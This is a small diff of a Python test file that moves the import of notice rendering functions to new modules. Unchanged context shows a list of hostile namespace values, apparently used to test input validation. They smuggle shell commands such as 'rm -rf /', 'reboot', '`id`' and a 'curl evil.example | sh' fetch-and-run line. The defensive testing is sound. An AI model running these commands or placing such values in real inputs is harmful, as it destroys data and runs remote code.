@@ -23,7 +23,8 @@ from notice_cases import COMMIT, command_lines, context_with, deployment, passin
 
 from gate.commands.action.notes import Notes
 from gate.core.models import Activation, Outcome, Verdict
-from gate.core.notice import Notice, build_notice, render_chatbot, render_json, render_text
+from gate.core.notice.model import Notice, build_notice
+from gate.core.notice.render import render_chatbot, render_json, render_text
 
 HOSTILE_NAMESPACES = [
     "prod\nrm -rf /", "prod\n", "prod;reboot", "$(reboot)", "`id`", "prod && curl evil.example | sh", "Prod",
